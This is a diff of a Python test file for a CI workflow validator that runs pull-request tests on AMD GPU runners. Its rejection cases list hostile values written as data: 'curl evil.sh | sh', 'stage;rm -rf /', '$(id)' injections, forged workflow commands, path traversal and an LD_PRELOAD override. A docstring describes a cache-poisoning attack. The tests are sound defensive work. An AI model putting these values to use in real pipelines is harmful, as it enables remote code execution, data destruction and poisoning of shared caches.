-        {"SUITE": ""},
-        {"SUITE": "-stage"},
-        {"SUITE": ".hidden"},
-        {"SUITE": "stage c"},
-        {"SUITE": "stage;rm -rf /"},
-        {"SUITE": "stage\n::set-output name=x::y"},
-        {"SUITE": "s" * 129},
-        {"SUITE": "stagé"},
-        {"TEST_FILES": "tests/e2e/../../etc/test_x.py"},
-        {"TEST_FILES": "tests/e2e/a..b/test_x.py"},
-        {"TEST_FILES": "tests/e2e/-rf/test_x.py"},
-        {"TEST_FILES": "tests/e2e/.git/test_x.py"},
-        {"TEST_FILES": "/tests/e2e/test_x.py"},
-        {"TEST_FILES": "tests/unit/test_x.py"},
-        {"TEST_FILES": "tests/e2e/test_x.sh"},
-        {"TEST_FILES": "tests/e2e/x.py"},
-        {"TEST_FILES": "tests/e2e/conftest.py"},
-        {"TEST_FILES": "tests/e2e/test_x.py;id"},
-        {"TEST_FILES": "tests/e2e/test_$(id).py"},
-        {"TEST_FILES": "tests/e2e/test_*.py"},
-        {"TEST_FILES": "tests/e2e/test_x.py\ntests/e2e/test_y.py"},
-        {"TEST_FILES": "tests/e2e/test_x.py\ttests/e2e/test_y.py"},
-        {"TEST_FILES": "tests/e2e/tést_x.py"},
-        {"TEST_FILES": "tests/e2e/test_x.py tests/e2e/test_x.py"},
+        {"HEAD_SHA": SHA.upper()}, {"HEAD_SHA": SHA[:39]}, {"HEAD_SHA": SHA + "0"}, {"HEAD_SHA": "main"},
+        {"HEAD_SHA": SHA + "\n"}, {"PULL_NUMBER": ""}, {"PULL_NUMBER": "0"}, {"PULL_NUMBER": "12a"},
+        {"PULL_NUMBER": "1/../../heads/main"}, {"PULL_NUMBER": "-1"}, {"PULL_NUMBER": "12345678901"},
+        {"SUITE": ""}, {"SUITE": "-stage"}, {"SUITE": ".hidden"}, {"SUITE": "stage c"}, {"SUITE": "stage;rm -rf /"},
+        {"SUITE": "stage\n::set-output name=x::y"}, {"SUITE": "s" * 129}, {"SUITE": "stagé"},
+        {"TEST_FILES": "tests/e2e/../../etc/test_x.py"}, {"TEST_FILES": "tests/e2e/a..b/test_x.py"},
+        {"TEST_FILES": "tests/e2e/-rf/test_x.py"}, {"TEST_FILES": "tests/e2e/.git/test_x.py"},
+        {"TEST_FILES": "/tests/e2e/test_x.py"}, {"TEST_FILES": "tests/unit/test_x.py"}, {"TEST_FILES": "tests/e2e/test_x.sh"},
+        {"TEST_FILES": "tests/e2e/x.py"}, {"TEST_FILES": "tests/e2e/conftest.py"}, {"TEST_FILES": "tests/e2e/test_x.py;id"},
+        {"TEST_FILES": "tests/e2e/test_$(id).py"}, {"TEST_FILES": "tests/e2e/test_*.py"},
+        {"TEST_FILES": "tests/e2e/test_x.py\ntests/e2e/test_y.py"}, {"TEST_FILES": "tests/e2e/test_x.py\ttests/e2e/test_y.py"},
+        {"TEST_FILES": "tests/e2e/tést_x.py"}, {"TEST_FILES": "tests/e2e/test_x.py tests/e2e/test_x.py"},
         {"TEST_FILES": " ".join(f"tests/e2e/test_{i}.py" for i in range(101))},
         {"TEST_FILES": "tests/e2e/" + "a" * 250 + "/test_x.py"},
-        {"RUNS_ON": ""},
-        {"RUNS_ON": "self-hosted"},
-        {"RUNS_ON": '["self-hosted","amd","mi350"]'},  # a subset: any MI350 machine, whatever its GPUs
-        {"RUNS_ON": '["self-hosted","amd","mi350","4gpu","x"]'},
-        {"RUNS_ON": '["ubuntu-latest"]'},
-        {"RUNS_ON": '"linux-mi35x-gpu-8"'},
-        {"SHARDS": ""},
-        {"SHARDS": "0"},
-        {"SHARDS": "9"},
-        {"SHARDS": "01"},
-        {"SHARDS": "2 "},
-        {"SHARDS": "-1"},
-        {"IMAGE": "evil/image:latest"},
-        {"IMAGE": "rocm/sgl-dev-evil:tag"},
-        {"IMAGE": "docker.io/rocm/sgl-dev:tag"},
-        {"IMAGE": "rocm/sgl-dev:tag; id"},
-        {"IMAGE": "rocm/sgl-dev@sha256:abc"},
-        {"IMAGE": "-tag"},
-        {"RUNNER_FLAGS": "--labels run-ci-all"},
-        {"RUNNER_FLAGS": "--cadence"},
-        {"RUNNER_FLAGS": "--cadence hourly"},
-        {"RUNNER_FLAGS": "--max-attempts 99"},
-        {"RUNNER_FLAGS": "--continue-on-error;id"},
-        {"RUNNER_FLAGS": "--nightly\n::error::x"},
-        {"RUNNER_FLAGS": "$(id)"},
-        {"RUNNER_FLAGS": "--auto-partition-id 0"},
+        {"PLAN": ""}, {"PLAN": "[]"}, {"PLAN": "{"}, _with_plan(extra_key=1),
+        _with_plan(runs_on="self-hosted"), _with_plan(runs_on=["self-hosted", "amd", "mi350"]),  # a subset: any MI350
+        _with_plan(runs_on=["self-hosted", "amd", "mi350", "4gpu", "x"]), _with_plan(runs_on=["ubuntu-latest"]),
+        _with_plan(shards=0), _with_plan(shards=9), _with_plan(shards="2"), _with_plan(shards=True), _with_plan(shards=1.5),
+        _with_plan(image="evil/image:latest"), _with_plan(image="rocm/sgl-dev-evil:tag"),
+        _with_plan(image="docker.io/rocm/sgl-dev:tag"), _with_plan(image="rocm/sgl-dev:tag; id"),
+        _with_plan(image="rocm/sgl-dev@sha256:abc"), _with_plan(image="-tag"), _with_plan(image="rocm/sgl-dev:{x}"),
+        _with_plan(image="rocm/sgl-dev:a-{date}", image_days=0), _with_plan(image="rocm/sgl-dev:a-{date}", image_days=99),
+        _with_plan(image="rocm/sgl-dev:a-{date}-{date}", image_days=7), _with_plan(image=["x"]),
+        _with_plan(timeout_per_file_s=0), _with_plan(timeout_per_file_s=10 ** 9), _with_plan(job_timeout_min=721), _with_plan(job_timeout_min=0),
+        _with_plan(runner_flags=["--labels", "run-ci-all"]), _with_plan(runner_flags=["--cadence"]),
+        _with_plan(runner_flags=["--cadence", "hourly"]), _with_plan(runner_flags=["--max-attempts", "99"]),
+        _with_plan(runner_flags=["--continue-on-error;id"]), _with_plan(runner_flags=["--nightly\n::error::x"]),
+        _with_plan(runner_flags=["$(id)"]), _with_plan(runner_flags=["--auto-partition-id", "0"]),
+        _with_plan(runner_flags=["--list-only"]), _with_plan(runner_flags="--nightly"),
+        _with_plan(install=["curl evil.sh | sh"]), _with_plan(install=["bash scripts/ci/amd/other.sh"]),
+        _with_plan(install="pip install -e ."),
+        _with_plan(env=["LD_PRELOAD=/tmp/x.so"]), _with_plan(env=["SGLANG_X=$(id)"]), _with_plan(env=["SGLANG_X"]),
+        _with_plan(env=["SGLANG_X=a b"]), _with_plan(env=[f"SGLANG_{i}=1" for i in range(21)]),
+        _with_plan(cache="shared"), _with_plan(cache="rw"),  # shared: only if CACHE_MODES lists it
     ],
 )
 def test_shapes_rejects(changes):
@@ -535,6 +549,99 @@ def test_shapes_rejects(changes):
     assert done.returncode == 1, done.stdout + done.stderr
     # One line: a rejected value never starts a line of its own (no forged workflow command).
     assert done.stdout.startswith("::error::") and done.stdout.count("\n") == 1, done.stdout
+
+
+def test_a_shared_cache_is_an_explicit_choice_of_the_installer():
+    shapes = _step(VALIDATE, "shapes")
+    assert _workflow_constant("CACHE_MODES") == ["read-only", "scratch"]
+    allowed = {**shapes, "run": shapes["run"].replace('CACHE_MODES = ["read-only", "scratch"]',
+                                                      'CACHE_MODES = ["read-only", "scratch", "shared"]')}
+    assert allowed["run"] != shapes["run"]
+    done = _python_step(allowed, _with_plan(cache="shared"))
+    assert done.returncode == 0 and done.outputs["cache"] == "shared"
+
+
+def test_shapes_writes_the_checked_values_for_the_gpu_jobs():
+    done = _python_step(_step(VALIDATE, "shapes"), _with_plan(
+        runs_on=["linux-mi35x-gpu-8"], shards=2, image="", runner_flags=["--cadence", "nightly"],
+        install=["pip install -e . --no-deps --break-system-packages"], env=["SGLANG_USE_AITER=1"], job_timeout_min=60))
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert done.outputs == {"runs_on": '["linux-mi35x-gpu-8"]', "image": "rocm/sgl-dev:miles-rocm720-mi35x",
+                            "image_days": "0", "shards": "2", "runner_flags": "--cadence nightly",
+                            "timeout_per_file": "1800", "job_timeout_min": "60",
+                            "install": "pip install -e . --no-deps --break-system-packages",
+                            "env": "SGLANG_USE_AITER=1", "cache": "read-only"}
+
+
+# ----------------------------------------------------------------------------------------------
+# Dated images, resolved as the targets' jobs resolve them
+
+
+class _Registry(http.server.BaseHTTPRequestHandler):
+    """Docker Hub's tag list, for the tags given to the fixture; `name` filters by substring."""
+
+    tags: list[str] = []
+    asked: list[str] = []
+
+    def do_GET(self):  # noqa: N802 - the handler's name
+        from urllib.parse import parse_qs, urlparse
+
+        url = urlparse(self.path)
+        name = parse_qs(url.query).get("name", [""])[0]
+        type(self).asked.append(self.path)
+        body = json.dumps({"results": [{"name": t} for t in self.tags if name in t], "next": None}).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture()
+def registry():
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Registry)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    _Registry.tags, _Registry.asked = [], []
+    yield f"http://127.0.0.1:{server.server_address[1]}/v2/repositories/{{repository}}/tags", _Registry
+    server.shutdown()
+
+
+def _day(back: int) -> str:
+    return (datetime.datetime.now(datetime.timezone.utc).date() - datetime.timedelta(days=back)).strftime("%Y%m%d")
+
+
+def _resolve(url: str, image: str, days: int) -> subprocess.CompletedProcess:
+    return _python_step(_step(VALIDATE, "image"), {"IMAGE": image, "IMAGE_DAYS": str(days), "REGISTRY_TAGS_URL": url})
+
+
+def test_a_dated_tag_is_the_newest_day_that_has_an_image(registry):
+    url, reg = registry
+    reg.tags = [f"miles-rocm720-mi35x-{_day(2)}", f"miles-rocm720-mi35x-{_day(5)}", "miles-rocm720-mi35x",
+                f"miles-rocm720-mi35x-{_day(0)}-debug"]
+    done = _resolve(url, "rocm/sgl-dev:miles-rocm720-mi35x-{date}", 7)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert done.outputs["image"] == f"rocm/sgl-dev:miles-rocm720-mi35x-{_day(2)}"
+    assert all("/v2/repositories/rocm/sgl-dev/tags?" in p for p in reg.asked)
+
+
+def test_sglangs_version_and_date_are_found_in_the_tag_list(registry):
+    url, reg = registry
+    reg.tags = [f"v0.5.9-rocm724-mi35x-{_day(1)}", f"v0.5.10.post1-rocm724-mi35x-{_day(1)}",
+                f"v0.5.11-rocm720-mi35x-{_day(0)}", f"nightly-rocm724-mi35x-{_day(0)}"]
+    done = _resolve(url, "rocm/sgl-dev:{version}-rocm724-mi35x-{date}", 7)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert done.outputs["image"] == f"rocm/sgl-dev:v0.5.10.post1-rocm724-mi35x-{_day(1)}"  # the highest version
+
+
+def test_no_image_in_the_window_fails_before_a_gpu_machine_is_touched(registry):
+    url, reg = registry
+    reg.tags = [f"miles-rocm720-mi35x-{_day(9)}"]
+    done = _resolve(url, "rocm/sgl-dev:miles-rocm720-mi35x-{date}", 7)
+    assert done.returncode == 1 and "no image" in done.stdout
+    plain = _resolve(url, "rocm/sgl-dev:miles-rocm720-mi35x", 0)  # an undated tag is used as it is
+    assert plain.returncode == 0 and plain.outputs["image"] == "rocm/sgl-dev:miles-rocm720-mi35x"
 
 
 # ----------------------------------------------------------------------------------------------
@@ -691,80 +798,32 @@ def test_inventory_checks_each_listed_file_is_a_regular_file(tmp_path):
         assert done.returncode == 1 and f"{bad} is not a regular file" in done.stdout, bad
 
 
+def test_inventory_accepts_a_suite_this_branchs_workflows_run_with_the_backend(tmp_path):
+    """sglang's runner runs AMD suites its inventory does not list (28 of the 37 its MI35x jobs
+    run): the trusted branch's own workflows name them, with `--hw amd`."""
+    repo, sha = _repo(tmp_path, {"test/run_suite.py": "PER_COMMIT_SUITES = {HWBackend.AMD: ['listed']}\n"})
+    trusted = tmp_path / "trusted" / ".github" / "workflows"
+    trusted.mkdir(parents=True)
+    (trusted / "nightly.yml").write_text((SGLANG / ".github" / "workflows" / "nightly-test-amd-rocm720.yml").read_text())
+    step = _step(VALIDATE, "inventory")
+    env = {k: v for k, v in step["env"].items() if "${{" not in v}
+    env.update(SUITES_MODULE="test/run_suite.py", SUITES_VARIABLES="PER_COMMIT_SUITES NIGHTLY_SUITES OTHER_SUITES",
+               SUITES_BACKEND="amd", SUITE="nightly-amd-8-gpu-mi35x-deepseek-v4-pro", HEAD_SHA=sha, PULL_NUMBER="7",
+               TEST_FILES="", HOME=str(repo), GIT_CONFIG_NOSYSTEM="1")
+    assert env["TRUSTED_WORKFLOWS"] == "../trusted/.github/workflows" and env["SUITES_FROM_WORKFLOWS"] == "true"
+    done = _python_step(step, env, cwd=repo)
+    assert done.returncode == 0, done.stdout
+    for suite in ("nightly-amd-8-gpu-mi35x-deepseek-v4", "not-run-anywhere", "nightly-stage-c-8-gpu-mi350"):
+        done = _python_step(step, {**env, "SUITE": suite}, cwd=repo)
+        assert done.returncode == 1 and "workflows do not run it" in done.stdout, suite
+    # a suite that only another backend's command runs is not one
+    done = _python_step(step, {**env, "SUITES_BACKEND": "rocm"}, cwd=repo)
+    assert done.returncode == 1
+    assert _python_step(step, {**env, "SUITES_FROM_WORKFLOWS": "false"}, cwd=repo).returncode == 1
+
+
 # ----------------------------------------------------------------------------------------------
-# The plan of the GPU jobs, and the commands they run, on a stand-in repository (python3 for GPUs)
-
-
-def _plan(suite: str, files: str = "", shards: str = "1", flags: str = "") -> list[dict]:
-    step = _step(VALIDATE, "plan")
-    env = {k: v for k, v in step["env"].items() if "${{" not in v}
-    env.update(SUITE=suite, TEST_FILES=files, SHARDS=shards, RUNNER_FLAGS=flags)
-    done = _python_step(step, env)
-    assert done.returncode == 0, done.stdout + done.stderr
-    return json.loads(done.outputs["matrix"])["include"]
-
-
-def _execute(command: str, repo: Path, *extra: str) -> subprocess.CompletedProcess:
-    """As the reusable job runs it: the command is the script of a `shell: bash` step
-    (`bash --noprofile --norc -eo pipefail {0}`), `--list-only` appended in its plan step."""
-    script = repo / ".step.sh"
-    script.write_text(" ".join([command, *extra]) + "\n")
-    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(repo), "MILES_HARDWARE_PLATFORM": "rocm"}
-    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], env=env, cwd=repo,
-                          capture_output=True, text=True, timeout=120)
-
-
-def test_a_sharded_suite_is_one_job_per_partition_with_the_runners_own_options():
-    flags = "--cadence nightly --match-all-labels --continue-on-error --enable-retry --max-attempts 2"
-    matrix = _plan("nightly-stage-c-8-gpu-mi350", shards="2", flags=flags)
-    base = f"python3 tests/ci/run_suite.py --hw rocm --suite nightly-stage-c-8-gpu-mi350 {flags}"
-    assert matrix == [
-        {"partition_id": 0, "command": f"{base} --auto-partition-id 0 --auto-partition-size 2"},
-        {"partition_id": 1, "command": f"{base} --auto-partition-id 1 --auto-partition-size 2"},
-    ]
-    assert _plan("stage-c-4-gpu-mi350") == [
-        {"partition_id": 0, "command": "python3 tests/ci/run_suite.py --hw rocm --suite stage-c-4-gpu-mi350"}]
-
-
-def test_the_generated_commands_run_miles_real_runner_argument_parser(tmp_path):
-    # miles' own run_suite.py parses each shard's command (its imports stubbed: nothing else runs).
-    runner = MILES_RUNNER.read_text()
-    stub = runner.split("def main():", 1)[1].split("args = parser.parse_args()", 1)[0]
-    probe = ("import argparse, json, sys\nCI_CADENCES = {'regular', 'nightly', 'weekly', 'release'}\n"
-             "NIGHTLY_CADENCE, REGULAR_CADENCE = 'nightly', 'regular'\nHW_MAPPING = {'cpu': 0, 'cuda': 1, 'rocm': 2}\n"
-             "def main():" + stub + "args = parser.parse_args()\n    print(json.dumps(vars(args)))\nmain()\n")
-    repo, _ = _repo(tmp_path, {"tests/ci/run_suite.py": probe})
-    flags = " ".join(default_runner_flags("nightly-stage-c-8-gpu-mi350", _miles_options()))
-    for shard in _plan("nightly-stage-c-8-gpu-mi350", shards="2", flags=flags):
-        for extra in ((), ("--list-only",)):
-            done = _execute(shard["command"], repo, *extra)
-            assert done.returncode == 0, done.stderr
-            args = json.loads(done.stdout)
-            assert (args["suite"], args["hw"], args["cadence"]) == ("nightly-stage-c-8-gpu-mi350", "rocm", "nightly")
-            assert (args["auto_partition_id"], args["auto_partition_size"]) == (shard["partition_id"], 2)
-            assert args["match_all_labels"] and args["continue_on_error"] and args["enable_retry"]
-            assert args["list_only"] is bool(extra)
-
-
-def test_listed_files_use_the_runners_own_selection_where_it_has_one():
-    step = _step(VALIDATE, "plan")
-    env = {k: v for k, v in step["env"].items() if "${{" not in v}
-    env.update(SUITE="s", TEST_FILES="tests/e2e/test_a.py tests/e2e/test_b.py tests/e2e/test_c.py", SHARDS="2",
-               RUNNER_FLAGS="", RUNNER_FILE_OPTION="--files")
-    done = _python_step(step, env)
-    base = "python3 tests/ci/run_suite.py --hw rocm --suite s --files tests/e2e/test_a.py tests/e2e/test_b.py tests/e2e/test_c.py"
-    assert [m["command"] for m in json.loads(done.outputs["matrix"])["include"]] == [
-        f"{base} --auto-partition-id 0 --auto-partition-size 2", f"{base} --auto-partition-id 1 --auto-partition-size 2"]
-    assert step["env"]["RUNNER_FILE_OPTION"] == ""  # neither miles' nor sglang's runner has one
-
-
-def test_verify_step_refuses_another_commit(tmp_path):
-    repo, sha = _repo(tmp_path, {"README.md": "x\n"})
-    verify = _step(GPU_JOB, name_has="Verify")
-    assert verify["env"] == {"HEAD_SHA": "${{ inputs.ref }}"}
-    assert _bash_step(verify, {"HEAD_SHA": sha}, repo).returncode == 0
-    done = _bash_step(verify, {"HEAD_SHA": "e" * 40}, repo)
-    assert done.returncode == 1 and "not the approved" in done.stdout
+# The GPU job's steps, run with a stand-in `docker` that records what it is asked
 
 
 def _bash_step(step: dict, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess:
@@ -776,23 +835,161 @@ def _bash_step(step: dict, env: dict[str, str], cwd: Path) -> subprocess.Complet
                           capture_output=True, text=True, timeout=120)
 
 
-def test_the_shipped_gpu_job_runs_the_command_as_miles_job_does(tmp_path):
-    repo, _ = _repo(tmp_path, {"tests/ci/run_suite.py": RUNNER_STANDIN})
-    [shard] = _plan("nightly-stage-c-4-gpu-mi350")
-    env = {"EXECUTE_COMMAND": shard["command"], "PYTHONPATH": str(repo)}
-    listed = _bash_step(_step(GPU_JOB, name_has="Resolve the plan"), env, repo)
-    assert listed.returncode == 0 and "'--list-only'" in listed.stdout
-    done = _bash_step(_step(GPU_JOB, name_has="Run the tests"), env, repo)
-    assert done.returncode == 0, done.stderr
-    assert "argv ['--hw', 'rocm', '--suite', 'nightly-stage-c-4-gpu-mi350']" in done.stdout
-    assert [r.file for r in parse_job_log(done.stdout).records] == ["tests/e2e/test_a.py"]
-
-
-RUNNER_STANDIN = '''\
-import sys
-print("argv", sys.argv[1:])
-print("[1/1] tests/e2e/test_a.py  PASS  elapsed=3s")
+FAKE_DOCKER = '''#!/bin/bash
+printf '%s\\n' "docker $*" >> "$DOCKER_LOG"
+if [ "$1" = exec ]; then
+  # run the command for real (the container is this machine), from the directory it names
+  shift
+  while [ $# -gt 0 ]; do
+    case "$1" in
+      -w) dir="$2"; shift 2;;
+      -e) export "$2"; shift 2;;
+      *) break;;
+    esac
+  done
+  shift  # the container's name
+  cd "${MOUNT_ROOT}${dir#"$CHECKOUT_MOUNT"}" && exec "$@"
+fi
 '''
+
+
+@pytest.fixture()
+def gpu_host(tmp_path):
+    """A runner machine: a workspace with the trusted scripts and the PR's checkout, host cache
+    directories, and `docker` that logs its arguments (and runs `exec`ed commands here)."""
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "docker").write_text(FAKE_DOCKER)
+    (bin_dir / "docker").chmod(0o755)
+    workspace = tmp_path / "work"
+    workspace.mkdir()
+    caches = tmp_path / "host-data"
+    (caches / "hf_cache").mkdir(parents=True)
+    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "DOCKER_LOG": str(tmp_path / "docker.log"),
+           "GITHUB_WORKSPACE": str(workspace), "GITHUB_ENV": str(tmp_path / "github.env"),
+           "RUNNER_TEMP": str(tmp_path / "temp"), "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
+    (tmp_path / "temp").mkdir()
+    (tmp_path / "github.env").write_text("")
+    return tmp_path, workspace, caches, env
+
+
+def _start_step(profile_caches: str) -> dict:
+    """The start step as an installer edits it: the profile's host cache paths set to this machine's."""
+    step = _step(GPU_JOB, name_has="Start the container")
+    text = step["run"].replace('CACHES=("/home/runner/sglang-data:/sgl-data")', f'CACHES=({profile_caches})')
+    assert text != step["run"]
+    return {**step, "run": text}
+
+
+def _docker_calls(tmp_path: Path) -> list[str]:
+    log = tmp_path / "docker.log"
+    return log.read_text().splitlines() if log.exists() else []
+
+
+@pytest.mark.parametrize(("cache", "mounts", "offline"), [
+    ("read-only", ["-v {caches}/sgl:/sgl-data:ro", "-v {caches}/hf_cache:/root/.cache/huggingface:ro"], True),
+    ("scratch", [], False),
+    ("shared", ["-v {caches}/sgl:/sgl-data", "-v {caches}/hf_cache:/root/.cache/huggingface"], False),
+])
+def test_the_container_mounts_caches_read_only_by_default(gpu_host, cache, mounts, offline):
+    """Issue 23's attack: the target's own jobs mount the host cache writable (with seccomp off and
+    SYS_PTRACE), so PR code could poison what later trusted jobs read. Read-only is the default; each
+    run writes to its own scratch; `shared` exists only when chosen (and CACHE_MODES allows it)."""
+    tmp_path, workspace, caches, env = gpu_host
+    (caches / "sgl").mkdir()
+    step = _start_step(f'"{caches}/sgl:/sgl-data" "{caches}/hf_cache:/root/.cache/huggingface" "{caches}/absent:/x"')
+    done = _bash_step(step, {**env, "PROFILE": "sglang", "IMAGE": "rocm/sgl-dev:v1-rocm724-mi35x-20260801",
+                             "CACHE": cache}, workspace)
+    assert done.returncode == 0, done.stdout + done.stderr
+    [run] = [c for c in _docker_calls(tmp_path) if c.startswith("docker run ")]
+    volumes = re.findall(r"-v (\S+)", run)
+    expected = [m.format(caches=caches).split(" ", 1)[1] for m in mounts] + [f"{workspace}/checkout:/sglang-checkout"]
+    assert volumes == expected
+    assert ("-e HF_HUB_OFFLINE=1" in run) is offline
+    assert ("MIOPEN_USER_DB_PATH=/tmp/scratch/miopen" in run) is (cache == "read-only")
+    assert "--ipc=host" not in run and "--privileged" not in run
+    assert run.endswith("rocm/sgl-dev:v1-rocm724-mi35x-20260801 sleep infinity")
+    assert "CONTAINER=ci_sglang" in (tmp_path / "github.env").read_text()
+
+
+def test_an_unknown_cache_mode_or_profile_starts_nothing(gpu_host):
+    tmp_path, workspace, caches, env = gpu_host
+    step = _step(GPU_JOB, name_has="Start the container")
+    for profile, cache in (("sglang", "rw"), ("other", "read-only")):
+        done = _bash_step(step, {**env, "PROFILE": profile, "IMAGE": "rocm/sgl-dev:x", "CACHE": cache}, workspace)
+        assert done.returncode == 1
+    assert not [c for c in _docker_calls(tmp_path) if c.startswith("docker run ")]
+
+
+def test_install_runs_the_trusted_scripts_on_the_host_and_the_rest_in_the_container(gpu_host):
+    """A `bash scripts/ci/...` install command runs the trusted branch's copy, from a scratch
+    directory that holds only the Dockerfile it reads (copied out of git, so a symlink in the PR
+    leads nowhere); the PR's own copy of the script never runs. Other commands go to the container."""
+    tmp_path, workspace, caches, env = gpu_host
+    script = "scripts/ci/amd/amd_ci_install_dependency.sh"
+    (workspace / "trusted" / "scripts" / "ci" / "amd").mkdir(parents=True)
+    (workspace / "trusted" / script).write_text('echo "trusted install $* in $PWD"; ls docker; cat docker/rocm.Dockerfile\n')
+    checkout, _ = _repo(tmp_path, {script: "echo PR-CODE-RAN-ON-THE-HOST\n", "docker/rocm.Dockerfile": "ARG AITER=1\n"})
+    checkout.rename(workspace / "checkout")
+    mount_root = workspace / "checkout"
+    done = _bash_step(_step(GPU_JOB, name_has="Install"), {
+        **env, "INSTALL": f"bash {script} --skip-test-time-deps\npip --version",
+        "CONTAINER": "ci_sglang", "CHECKOUT_MOUNT": "/sglang-checkout", "MOUNT_ROOT": str(mount_root)}, workspace)
+    assert done.returncode == 0, done.stdout + done.stderr
+    assert "PR-CODE-RAN-ON-THE-HOST" not in done.stdout
+    assert f"trusted install --skip-test-time-deps in {tmp_path}/temp/host-work" in done.stdout
+    assert "ARG AITER=1" in done.stdout
+    assert _docker_calls(tmp_path) == ["docker exec -w /sglang-checkout ci_sglang pip --version"]
+
+
+def test_the_command_runs_in_the_container_in_its_directory_with_its_environment(gpu_host):
+    tmp_path, workspace, caches, env = gpu_host
+    (workspace / "checkout" / "test").mkdir(parents=True)
+    done = _bash_step(_step(GPU_JOB, name_has="Run the tests"), {
+        **env, "PROFILE": "miles", "EXECUTE_COMMAND": "echo ran in $PWD with $SGLANG_USE_AITER",
+        "COMMAND_ENV": "SGLANG_USE_AITER=1", "WORKDIR": "test", "CONTAINER": "ci_miles",
+        "CHECKOUT_MOUNT": "/miles-checkout", "MOUNT_ROOT": str(workspace / "checkout")}, workspace)
+    assert done.returncode == 0, done.stderr
+    assert f"ran in {workspace}/checkout/test with 1" in done.stdout
+    assert _docker_calls(tmp_path) == ["docker exec -w /miles-checkout/test -e SGLANG_USE_AITER=1 ci_miles bash -c "
+                                       "echo ran in $PWD with $SGLANG_USE_AITER"]
+
+
+def test_verify_step_refuses_another_commit(tmp_path):
+    repo, sha = _repo(tmp_path, {"README.md": "x\n"})
+    repo.rename(tmp_path / "checkout")
+    verify = _step(GPU_JOB, name_has="Verify")
+    assert verify["env"] == {"HEAD_SHA": "${{ inputs.ref }}"}
+    assert _bash_step(verify, {"HEAD_SHA": sha}, tmp_path).returncode == 0
+    done = _bash_step(verify, {"HEAD_SHA": "e" * 40}, tmp_path)
+    assert done.returncode == 1 and "not the approved" in done.stdout
+
+
+# ----------------------------------------------------------------------------------------------
+# Listed files, one by one
+
+
+def _plan_files(suite: str, files: str, shards: str = "1", timeout: str = "1800", **settings) -> list[dict]:
+    matrix, _ = _plan_matrix({"shards": shards, "runner_flags": "", "timeout_per_file": timeout}, suite, files, **settings)
+    return matrix
+
+
+def _execute(command: str, cwd: Path) -> subprocess.CompletedProcess:
+    """As the GPU job runs it: `bash -c <command>` in the runner's directory of the checkout."""
+    env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(cwd), "MILES_HARDWARE_PLATFORM": "rocm"}
+    return subprocess.run(["bash", "-c", command], env=env, cwd=cwd, capture_output=True, text=True, timeout=120)
+
+
+def test_listed_files_use_the_runners_own_selection_where_it_has_one():
+    matrix = _plan_files("s", "tests/e2e/test_a.py tests/e2e/test_b.py tests/e2e/test_c.py", shards="2",
+                         RUNNER_FILE_OPTION="--files")
+    base = ("python3 tests/ci/run_suite.py --hw rocm --suite s --timeout-per-file 1800 --files tests/e2e/test_a.py "
+            "tests/e2e/test_b.py tests/e2e/test_c.py")
+    assert [m["command"] for m in matrix] == [f"{base} --auto-partition-id 0 --auto-partition-size 2",
+                                              f"{base} --auto-partition-id 1 --auto-partition-size 2"]
+    assert _step(VALIDATE, "plan")["env"]["RUNNER_FILE_OPTION"] == ""  # neither miles' nor sglang's runner has one
 
 
 def test_listed_files_run_one_by_one_and_their_lines_are_ingestible(tmp_path):
@@ -803,15 +1000,8 @@ def test_listed_files_run_one_by_one_and_their_lines_are_ingestible(tmp_path):
         "tests/fast/test_after.py": "print('still ran')\n",
     })
     files = "tests/e2e/test_pass.py tests/e2e/x/test_fail.py tests/e2e/test_slow.py tests/fast/test_after.py"
-    step = _step(VALIDATE, "plan")
-    env = {k: v for k, v in step["env"].items() if "${{" not in v}
     # 5 s: long enough for a python start-up on a loaded machine, far short of the slow file's 60 s
-    env.update(SUITE="nightly-stage-c-4-gpu-mi350", TEST_FILES=files, SHARDS="2", RUNNER_FLAGS="",
-               TIMEOUT_PER_FILE="5")
-    [shard] = json.loads(_python_step(step, env).outputs["matrix"])["include"]  # one job: nothing partitions them
-    listed = _execute(shard["command"], repo, "--list-only")  # the reusable job's plan step
-    assert listed.returncode == 0 and "still ran" not in listed.stdout
-    assert listed.stdout.splitlines()[-4:] == [f"listed: {f}" for f in files.split()]
+    [shard] = _plan_files("nightly-stage-c-4-gpu-mi350", files, shards="2", timeout="5")  # one job: nothing partitions them
     done = _execute(shard["command"], repo)
     assert done.returncode == 1, done.stdout + done.stderr  # a file failed: the job fails
     assert "still ran" in done.stdout  # ...but only after every listed file ran
@@ -825,69 +1015,13 @@ def test_listed_files_run_one_by_one_and_their_lines_are_ingestible(tmp_path):
         (3, 4, "tests/e2e/test_slow.py", "TIMEOUT", 124, 5),
         (4, 4, "tests/fast/test_after.py", "PASS", None, None),
     ]
-    assert step["env"]["TIMEOUT_PER_FILE"] == "1800"
 
 
-def test_listed_files_all_passing_pass(tmp_path):
-    repo, _ = _repo(tmp_path, {"tests/e2e/test_a.py": "", "tests/e2e/test_b.py": ""})
-    [shard] = _plan("s", files="tests/e2e/test_a.py tests/e2e/test_b.py")
-    done = _execute(shard["command"], repo)
+def test_listed_files_run_from_sglangs_runner_directory(tmp_path):
+    repo, _ = _repo(tmp_path, {"test/registered/amd/test_a.py": "print('a')\n", "test/registered/test_b.py": ""})
+    [shard] = _plan_files("nightly-amd-1-gpu-mi35x", "test/registered/amd/test_a.py test/registered/test_b.py",
+                          **SGLANG_PLAN_ENV)
+    done = _execute(shard["command"], repo / "test")  # the GPU job runs it in test/, as sglang's jobs do
     assert done.returncode == 0, done.stdout + done.stderr
-    assert [r.status for r in parse_job_log(done.stdout).records] == ["PASS", "PASS"]
-
-
-def test_the_plan_for_nightly_stage_c_8_gpu_mi350_on_miles():
-    """The generated job for the 8-GPU nightly suite with two shards, end to end from the App's
